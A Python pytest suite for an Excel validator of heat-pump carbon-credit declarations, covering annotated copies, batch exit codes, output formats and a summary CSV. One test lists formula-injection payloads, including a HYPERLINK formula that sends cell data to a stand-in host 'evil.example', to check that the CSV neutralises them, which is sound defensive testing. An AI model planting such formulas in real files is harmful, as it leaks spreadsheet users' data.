"""``hpcarbon validate`` as the platform runs it: annotated copies, batches of good, bad and unreadable files
with their exit status, --jobs, the JSON/JSONL/text outputs against the documented keys, and the summary
CSV (one row per file, safe against formula injection, never overwritten without --force).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import pytest
from builders import example, put
from openpyxl import load_workbook
from test_validate import BE, CREDITABLE, DEV, ER, PE, Q_AREA, Q_ELEC, T, W
from validate_support import check_json_findings, filled, located, run, schema_cell, set_cells

from hpcarbon.validator.annotate import FINDINGS_SHEET
from hpcarbon.workbook import layout as L

RESULT_KEYS = {"heat_supplied_gj", "heat_elec_method_gj", "heat_area_method_gj", "deviation", "method",
               "heat_by_type_gj", "baseline_emissions_t", "project_emissions_t", "emission_reductions_t",
               "creditable_reductions_t", "crediting_period_end", "records_keep_until"}
FINDING_KEYS = {"code", "severity", "clause", "message", "field", "sheet", "cell"}
REPORT_KEYS = {"file", "sha256", "template_version", "status", "counts", "results", "findings", "trace"}
SUMMARY_COLUMNS = ["file", "sha256", "project_id", "season", "status", "errors", "warnings", "baseline_emissions_t",
                   "project_emissions_t", "emission_reductions_t", "creditable_reductions_t", "note"]


def sha256(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def bad_declaration() -> dict:
    """Two error findings of the rule layer at known cells: q above the table, a statement not affirmed."""
    d = example()
    # above 40 W/m² (residential, energy-saving); Q_area = 41 × 5 000 × 4 032 × 3.6e-6 = 2 975.616 GJ, d = 7.6 %
    put(d, "areas[0].q_w_per_m2", 41)
    put(d, "project.statements.not_claimed_elsewhere", False)
    return d


def project(d: dict, number: int) -> dict:
    """Each file of a batch its own project: one project declared twice for a season is a batch error of
    its own (§7.3.3), not what these tests are about."""
    d["project"]["id"] = f"CC-HP-2024-{number:04d}"
    return d


def make_batch(folder: Path, good=0, bad=0, unreadable=0) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    files = {}
    for i in range(good):
        files[f"good{i}"] = filled(folder, project(example(), 100 + i), f"a-good-{i}.xlsx")
    for i in range(bad):
        files[f"bad{i}"] = filled(folder, project(bad_declaration(), 200 + i), f"b-bad-{i}.xlsx")
    for i in range(unreadable):
        p = folder / f"c-unreadable-{i}.xlsx"
        p.write_bytes(b"\x00\x01 this upload was truncated" * 10)
        files[f"unreadable{i}"] = p
    return files


def json_reports(p) -> list[dict]:
    payload = json.loads(p.stdout)
    reports = payload if isinstance(payload, list) else [payload]
    for r in reports:
        check_json_findings(r)
    return reports


# =========================================================================================================
# 5. The annotated copy
# =========================================================================================================
def test_annotated_copy(tmp_path):
    d = bad_declaration()
    src = filled(tmp_path / "in", d, "declaration.xlsx")
    before = sha256(src)
    out = tmp_path / "annotated"
    p = run("validate", src, "--annotate", out, "--format", "json")
    assert p.returncode == 1, p.stderr
    assert sha256(src) == before  # the submitted file is only ever read
    report = json_reports(p)[0]
    assert report["sha256"] == before
    copy = out / "declaration.annotated.xlsx"
    assert copy.is_file() and report.get("annotated") == str(copy)

    wb = load_workbook(copy)
    located_findings = [f for f in report["findings"] if f["sheet"] and f["cell"]]
    expected_cells = {located("areas[0].q_w_per_m2", d), located("project.statements.not_claimed_elsewhere", d)}
    assert expected_cells == {schema_cell("areas[{i}].q_w_per_m2", 0),
                              schema_cell("project.statements.not_claimed_elsewhere")}
    assert expected_cells <= {(f["sheet"], f["cell"]) for f in located_findings}
    for f in located_findings:
        cell = wb[f["sheet"]][f["cell"]]
        assert cell.fill.fill_type == "solid", f
        comment = cell.comment.text
        assert f"§{f['clause']}" in comment
        assert any(ord(ch) > 0x4E00 for ch in comment) and any(ch.isascii() and ch.isalpha() for ch in comment)
    q_sheet, q_cell = located("areas[0].q_w_per_m2", d)
    q_comment = wb[q_sheet][q_cell].comment.text
    assert "严禁高估" in q_comment and "never overestimate" in q_comment  # both languages
    assert wb[q_sheet][q_cell].value == 41  # the data itself is untouched in the copy

    ws = wb[FINDINGS_SHEET]
    assert wb.sheetnames[0] == FINDINGS_SHEET
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == len(report["findings"])
    links = {}
    for row in rows:
        sheet, ref = row[2].value, row[3].value
        if row[3].hyperlink is not None:
            h = row[3].hyperlink
            links[(sheet, ref)] = (h.location or h.target or "").lstrip("#")
    for sheet, ref in expected_cells:
        assert links[(sheet, ref)] == f"'{sheet}'!{ref}"


def test_an_existing_annotated_copy_is_not_overwritten_without_force(tmp_path):
    src = filled(tmp_path / "in", bad_declaration(), "declaration.xlsx")
    out = tmp_path / "annotated"
    out.mkdir()
    copy = out / "declaration.annotated.xlsx"
    copy.write_bytes(b"an earlier copy someone is reviewing")
    before_src = sha256(src)

    p = run("validate", src, "--annotate", out, "--lang", "en")
    assert p.returncode == 2
    assert "--force" in p.stderr and str(copy) in p.stderr
    assert copy.read_bytes() == b"an earlier copy someone is reviewing"
    # the report itself is still the file's own: not "cannot read the workbook"
    assert "FAIL" in p.stdout and "area.q_above_table" in p.stdout and "file.unreadable_workbook" not in p.stdout

    p = run("validate", src, "--annotate", out, "--force", "--format", "json")
    assert p.returncode == 1, p.stderr
    assert load_workbook(copy).sheetnames[0] == FINDINGS_SHEET
    assert sha256(src) == before_src


def test_annotating_a_clean_workbook_gives_a_findings_sheet_too(tmp_path):
    src = filled(tmp_path / "in", example(), "ok.xlsx")
    out = tmp_path / "annotated"
    p = run("validate", src, "--annotate", out)
    assert p.returncode == 0, p.stderr
    wb = load_workbook(out / "ok.annotated.xlsx")
    assert wb.sheetnames[0] == FINDINGS_SHEET
    assert wb.sheetnames[1:] == load_workbook(src).sheetnames


def test_files_of_the_same_name_get_distinct_annotated_copies(tmp_path):
    """Every owner calls the file 申报表.xlsx: one batch over submissions/A and submissions/B must give two
    copies, each the annotation of its own file — with or without --force."""
    a = filled(tmp_path / "submissions" / "A", project(example(), 1), "申报表.xlsx")
    b = filled(tmp_path / "submissions" / "B", project(bad_declaration(), 2), "申报表.xlsx")
    for force, out in ((False, tmp_path / "out1"), (True, tmp_path / "out2")):
        p = run("validate", a, b, "--annotate", out, "--format", "json", *(["--force"] if force else []))
        assert p.returncode == 1, p.stderr  # B has errors; nothing is unreadable, nothing exists already
        ra, rb = json_reports(p)
        assert ra["annotated"] != rb["annotated"]
        assert sorted(Path(x).name for x in (ra["annotated"], rb["annotated"])) == sorted(
            q.name for q in out.iterdir())
        for report, expected in ((ra, "pass"), (rb, "fail")):
            assert report["status"] == expected
            links = [r[4].value for r in load_workbook(report["annotated"])[FINDINGS_SHEET].iter_rows(min_row=2)]
            assert ("area.q_above_table" in links) == (expected == "fail")


def test_annotate_must_be_a_folder(tmp_path):
    src = filled(tmp_path, example(), "ok.xlsx")
    not_a_folder = tmp_path / "file.txt"
    not_a_folder.write_text("x")
    p = run("validate", src, "--annotate", not_a_folder)
    assert p.returncode == 2 and "--annotate" in p.stderr


# =========================================================================================================
# 6. Batches
# =========================================================================================================
def test_batch_good_bad_and_unreadable_exits_2(tmp_path):
    files = make_batch(tmp_path / "batch", good=2, bad=1, unreadable=1)
    p = run("validate", tmp_path / "batch", "--format", "json")
    assert p.returncode == 2
    reports = json_reports(p)
    assert [r["file"] for r in reports] == [str(f) for f in sorted(files.values())]
    by_file = {Path(r["file"]).name: r for r in reports}
    assert by_file["a-good-0.xlsx"]["status"] == "pass" and by_file["a-good-1.xlsx"]["status"] == "pass"
    assert by_file["b-bad-0.xlsx"]["status"] == "fail" and by_file["b-bad-0.xlsx"]["results"] is not None
    unreadable = by_file["c-unreadable-0.xlsx"]
    assert unreadable["status"] != "pass" and unreadable["results"] is None
    assert [f["code"] for f in unreadable["findings"]] == ["file.not_xlsx"]
    for r in reports:
        assert r["sha256"] == sha256(r["file"])


def test_batch_good_and_bad_exits_1(tmp_path):
    make_batch(tmp_path / "batch", good=1, bad=1)
    p = run("validate", tmp_path / "batch")
    assert p.returncode == 1


def test_batch_good_only_exits_0(tmp_path):
    make_batch(tmp_path / "batch", good=3)
    p = run("validate", tmp_path / "batch", "--format", "jsonl")
    assert p.returncode == 0
    assert len(p.stdout.splitlines()) == 3


def test_a_missing_path_exits_2_and_the_rest_is_still_validated(tmp_path):
    files = make_batch(tmp_path / "batch", good=1)
    p = run("validate", files["good0"], tmp_path / "nope.xlsx", "--format", "json")
    assert p.returncode == 2 and "nope.xlsx" in p.stderr
    assert [r["status"] for r in json_reports(p)] == ["pass"]


def test_jobs_2_gives_the_same_results_as_jobs_1(tmp_path):
    make_batch(tmp_path / "batch", good=2, bad=2, unreadable=1)
    one = run("validate", tmp_path / "batch", "--format", "json", "--jobs", "1")
    two = run("validate", tmp_path / "batch", "--format", "json", "--jobs", "2")
    assert one.returncode == two.returncode == 2
    assert json.loads(one.stdout) == json.loads(two.stdout)
    text1 = run("validate", tmp_path / "batch", "--jobs", "1")
    text2 = run("validate", tmp_path / "batch", "--jobs", "3")
    assert text1.stdout == text2.stdout


def test_jsonl_is_one_object_per_line_per_file_in_input_order(tmp_path):
    # slow workbooks first, instant unreadable files after: with several workers the later files finish first
    files = make_batch(tmp_path / "batch", good=2, bad=1, unreadable=4)
    one = run("validate", tmp_path / "batch", "--format", "jsonl", "--jobs", "1")
    assert one.returncode == 2
    lines = one.stdout.splitlines()
    assert len(lines) == len(files) == 7
    objects = [json.loads(line) for line in lines]
    assert all(isinstance(o, dict) for o in objects)
    assert [o["file"] for o in objects] == [str(f) for f in sorted(files.values())]
    for o in objects:
        check_json_findings(o)
    for jobs in ("2", "4"):
        many = run("validate", tmp_path / "batch", "--format", "jsonl", "--jobs", jobs)
        assert many.stdout == one.stdout and many.returncode == 2


def test_json_is_an_object_for_one_file_and_an_array_for_several(tmp_path):
    files = make_batch(tmp_path / "batch", good=2)
    single = json.loads(run("validate", files["good0"], "--format", "json").stdout)
    assert isinstance(single, dict) and single["file"] == str(files["good0"])
    several = json.loads(run("validate", files["good0"], files["good1"], "--format", "json").stdout)
    assert isinstance(several, list) and [r["file"] for r in several] == [str(files["good0"]), str(files["good1"])]


def read_summary(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens the Chinese text correctly
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_summary_csv_one_row_per_file_with_the_documented_columns(tmp_path):
    files = make_batch(tmp_path / "batch", good=1, bad=1, unreadable=1)
    summary = tmp_path / "summary.csv"
    p = run("validate", tmp_path / "batch", "--summary", summary, "--format", "jsonl")
    assert p.returncode == 2
    header, *rows = read_summary(summary)
    assert header == SUMMARY_COLUMNS
    assert len(rows) == 3
    by_file = {Path(r[0]).name: dict(zip(header, r)) for r in rows}
    assert {Path(r[0]) for r in rows} == set(files.values())
    good, bad, unreadable = by_file["a-good-0.xlsx"], by_file["b-bad-0.xlsx"], by_file["c-unreadable-0.xlsx"]
    assert good["sha256"] == sha256(files["good0"]) and unreadable["sha256"] == sha256(files["unreadable0"])
    assert good["project_id"] == "CC-HP-2024-0100" and good["season"] == "2024-10-20/2025-04-05"
    assert (good["status"], good["errors"], good["warnings"]) == ("pass", "0", "0")
    assert (bad["status"], bad["errors"]) == ("fail", "2")
    assert unreadable["status"] == "unreadable" and unreadable["errors"] == "1" and unreadable["project_id"] == ""
    # numbers stay numbers (no apostrophe, no quotes), equal to SPEC §12
    assert float(good["baseline_emissions_t"]) == pytest.approx(BE, rel=1e-12)
    assert float(good["project_emissions_t"]) == pytest.approx(PE, rel=1e-12)
    assert float(good["emission_reductions_t"]) == pytest.approx(ER, rel=1e-12)
    assert float(good["creditable_reductions_t"]) == CREDITABLE
    assert unreadable["baseline_emissions_t"] == ""
    raw = summary.read_text("utf-8-sig")
    assert f",{good['baseline_emissions_t']}," in raw  # written bare, not as text


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?d="&B2,"open")', "+1", "-1", "@SUM(A1:A9)",
                                   "=1+1", "\t=cmd", "＝1+1"])
def test_summary_is_safe_against_formula_injection(tmp_path, typed):
    d = example()
    d["project"]["id"] = typed
    src = filled(tmp_path / "in", d, "inj.xlsx")
    # the id cell is a text cell: what was typed is kept as text, whatever it looks like
    sheet, cell = located("project.id", d)
    assert load_workbook(src)[sheet][cell].data_type == "s"
    summary = tmp_path / "summary.csv"
    p = run("validate", src, "--summary", summary, "--format", "json")
    assert p.returncode in (0, 1), p.stderr
    assert json_reports(p)[0]["project"]["id"] == typed.strip() or json_reports(p)[0]["project"]["id"] == typed
    header, row = read_summary(summary)
    project_id = dict(zip(header, row))["project_id"]
    assert project_id.startswith("'") and project_id[1:] in (typed, typed.strip())
    for value in row:  # no cell of the summary starts like a formula
        assert not value.startswith(("=", "+", "@", "\t", "＝")), value
        if value.startswith("-"):
            float(value)  # a negative number is a number, not a formula


def test_summary_file_names_are_safe_too(tmp_path):
    folder = tmp_path / "batch"
    folder.mkdir()
    src = filled(folder, example(), "=1+2.xlsx")
    summary = tmp_path / "summary.csv"
    p = run("validate", src.name, "--summary", summary, cwd=folder)
    assert p.returncode == 0, p.stderr
    header, row = read_summary(summary)
    assert dict(zip(header, row))["file"] == "'=1+2.xlsx"


def test_summary_is_not_overwritten_without_force(tmp_path):
    files = make_batch(tmp_path / "batch", good=1)
    summary = tmp_path / "summary.csv"
    summary.write_text("yesterday's summary\n", encoding="utf-8")
    p = run("validate", files["good0"], "--summary", summary)
    assert p.returncode == 2 and "--force" in p.stderr
    assert summary.read_text(encoding="utf-8") == "yesterday's summary\n"
    p = run("validate", files["good0"], "--summary", summary, "--force")
    assert p.returncode == 0
    header, row = read_summary(summary)
    assert header == SUMMARY_COLUMNS and row[0] == str(files["good0"])


def test_no_output_ever_lands_on_a_submitted_file(tmp_path):
    """Not even with --force: a --summary or an annotated copy that would replace an input is refused."""
    files = make_batch(tmp_path / "batch", good=1, bad=1)
    before = {p: sha256(p) for p in files.values()}
    p = run("validate", tmp_path / "batch", "--summary", files["bad0"], "--force")
    assert p.returncode == 2 and str(files["bad0"]) in p.stderr
    # a copy named like an input of the same folder: x.xlsx's copy would be x.annotated.xlsx
    shadow = tmp_path / "batch" / "a-good-0.annotated.xlsx"
    shadow.write_bytes(files["good0"].read_bytes())
    before[shadow] = sha256(shadow)
    p = run("validate", tmp_path / "batch", "--annotate", tmp_path / "batch", "--force")
    assert p.returncode == 2 and "a-good-0.annotated.xlsx" in p.stderr
    assert {q: sha256(q) for q in before} == before


def test_a_summary_that_cannot_be_written_is_a_plain_message(tmp_path):
    files = make_batch(tmp_path / "batch", good=1)
    folder = tmp_path / "a-folder.csv"
    folder.mkdir()
    p = run("validate", files["good0"], "--summary", folder, "--force")
    assert p.returncode == 2
    assert str(folder) in p.stderr and "cannot write the summary" in p.stderr
    assert folder.is_dir() and list(folder.iterdir()) == []


# =========================================================================================================
# 7. The outputs against the documented keys
# =========================================================================================================
def test_json_output_has_the_documented_keys_and_spec_numbers(tmp_path):
    src = filled(tmp_path, example(), "example.xlsx")
    p = run("validate", src, "--format", "json", "--lang", "en")
    assert p.returncode == 0
    r = json_reports(p)[0]
    assert REPORT_KEYS <= set(r)
    assert r["file"] == str(src) and r["sha256"] == sha256(src) and r["template_version"] == L.TEMPLATE_VERSION
    assert r["status"] == "pass" and set(r["counts"]) == {"error", "warning", "info"}
    assert r["counts"]["error"] == r["counts"]["warning"] == 0
    res = r["results"]
    assert RESULT_KEYS <= set(res)
    assert res["heat_elec_method_gj"] == pytest.approx(Q_ELEC) and res["heat_area_method_gj"] == pytest.approx(Q_AREA)
    assert res["deviation"] == pytest.approx(DEV) and res["heat_supplied_gj"] == pytest.approx(Q_ELEC)
    assert res["method"] == "estimated" and res["heat_by_type_gj"] == {"air": pytest.approx(Q_ELEC)}
    assert res["baseline_emissions_t"] == pytest.approx(BE) and res["project_emissions_t"] == pytest.approx(PE)
    assert res["emission_reductions_t"] == pytest.approx(ER) and res["creditable_reductions_t"] == CREDITABLE
    assert res["crediting_period_end"] == "2038-10-19" and res["records_keep_until"] == "2043-10-19"
    assert res["heating_hours"] == T and res["electricity_kwh"] == W
    for f in r["findings"]:
        assert set(f) == FINDING_KEYS
    assert isinstance(r["trace"], list) and r["trace"]
    for step in r["trace"]:
        assert {"clause", "formula", "inputs", "output"} <= set(step) and step["clause"]


def test_json_findings_of_a_bad_workbook_carry_sheet_and_cell(tmp_path):
    d = example()
    src = filled(tmp_path, d, "bad.xlsx")
    cell = located("monthly[2].electricity_kwh.air", d)
    set_cells(src, {cell: "abc"})
    p = run("validate", src, "--format", "json")
    assert p.returncode == 1
    r = json_reports(p)[0]
    assert r["status"] == "fail" and r["counts"]["error"] == 1
    [f] = [f for f in r["findings"] if f["severity"] == "error"]
    assert set(f) == FINDING_KEYS
    assert (f["code"], f["clause"], f["sheet"], f["cell"]) == ("field.invalid", "表9–表11", *cell)
    assert f["field"] == "monthly[2].electricity_kwh.air"


def test_json_of_an_unreadable_file_keeps_the_documented_keys(tmp_path):
    p_file = tmp_path / "x.xlsx"
    p_file.write_bytes(b"garbage")
    p = run("validate", p_file, "--format", "json")
    assert p.returncode == 2
    r = json_reports(p)[0]
    assert REPORT_KEYS <= set(r) and r["template_version"] is None and r["results"] is None
    assert r["sha256"] == sha256(p_file)
    for f in r["findings"]:
        assert set(f) == FINDING_KEYS and f["clause"]


def test_text_output_order_verdict_results_findings_trace(tmp_path):
    d = bad_declaration()
    src = filled(tmp_path, d, "bad.xlsx")
    p = run("validate", src, "--lang", "en")
    assert p.returncode == 1
    out = p.stdout
    lines = out.splitlines()
    assert lines[0].startswith("Verdict: FAIL")
    i_results, i_findings, i_trace = out.index("== Results =="), out.index("== Findings =="), \
        out.index("== Calculation trace ==")
    assert i_results < i_findings < i_trace
    head = out[:i_results].splitlines()  # the verdict block: verdict, file with its SHA-256, project, owner, season
    assert head[1].startswith(f"File: {src}") and sha256(src) in head[1]
    assert head[2].startswith("Project: CC-HP-2024-0001") and head[4].startswith("Season: 2024-10-20")
    results = out[i_results:i_findings]
    assert "baseline emissions BE" in results
    findings = out[i_findings:i_trace].splitlines()
    # grouped by sheet: a [sheet] line, then that sheet's findings with their cells
    q_sheet, q_cell = located("areas[0].q_w_per_m2", d)
    s_sheet, s_cell = located("project.statements.not_claimed_elsewhere", d)
    for sheet, cell, code, clause in ((q_sheet, q_cell, "area.q_above_table", "§6.2.4.1"),
                                      (s_sheet, s_cell, "statement.not_affirmed", "§2.3")):
        header = findings.index(f"  [{sheet}]")
        line = next(x for x in findings[header + 1:] if code in x)
        assert cell in line and clause in line and "error" in line
        between = findings[header + 1:findings.index(line)]
        assert not any(x.startswith("  [") for x in between)  # no other sheet's header in between
    assert sum(1 for x in findings if x.startswith("  [")) == len({x for x in findings if x.startswith("  [")})
    trace = out[i_trace:]
    assert "formula (1)" in trace and "formula (4)" in trace


def test_text_of_a_file_without_a_season_names_the_cell_each_result_lacks(tmp_path):
    """No season: every result resting on it names the season's cell, where its error is listed below; the
    crediting period, which rests on the operation start alone, stands: 2023-10-20 + 15 years − 1 day."""
    d = example()
    src = filled(tmp_path, d, "bad.xlsx")
    sheet, cell = located("season.start", d)
    set_cells(src, {(sheet, cell): None})
    for lang, results, findings, lacking, ends in (
            ("en", "== Results ==", "== Findings ==", "cannot be computed, lacking:", "crediting period ends"),
            ("zh", "== 核算结果 ==", "== 发现的问题 ==", "无法核算，缺少：", "计入期截止")):
        out = run("validate", src, "--lang", lang).stdout
        shown = out[out.index(results):out.index(findings)]
        lacking_lines = [ln for ln in shown.splitlines() if lacking in ln]
        assert len(lacking_lines) == 9 and all(ln.endswith(f"{sheet}!{cell}") for ln in lacking_lines), shown
        assert "2038-10-19" in next(ln for ln in shown.splitlines() if ends in ln)
        assert f"{cell} " in out[out.index(findings):]  # the season's error, at its cell, below


def test_text_output_in_chinese_by_default(tmp_path):
    src = filled(tmp_path, example(), "ok.xlsx")
    p = run("validate", src)
    assert p.returncode == 0
    assert p.stdout.splitlines()[0].startswith("结论: 通过")
    assert "== 核算结果 ==" in p.stdout and "== 发现的问题 ==" in p.stdout and "== 计算过程 ==" in p.stdout
    assert "304.13 t CO2" in p.stdout and "147.82 t CO2" in p.stdout


def test_several_files_in_text_are_separated(tmp_path):
    make_batch(tmp_path / "batch", good=1, bad=1)
    p = run("validate", tmp_path / "batch", "--lang", "en")
    parts = p.stdout.split("\n" + "=" * 72 + "\n")
    assert len(parts) == 2
    assert parts[0].startswith("Verdict: PASS") and parts[1].startswith("Verdict: FAIL")


def test_misuse_exits_2_without_a_traceback(tmp_path):
    src = filled(tmp_path, example(), "ok.xlsx")
    assert run("validate", src, "--jobs", "0").returncode == 2
    assert run("validate", src, "--limit", "nonsense=1").returncode == 2
    assert run("validate", src, "--format", "xml").returncode == 2
    empty = tmp_path / "empty"
    empty.mkdir()
    assert run("validate", empty).returncode == 2
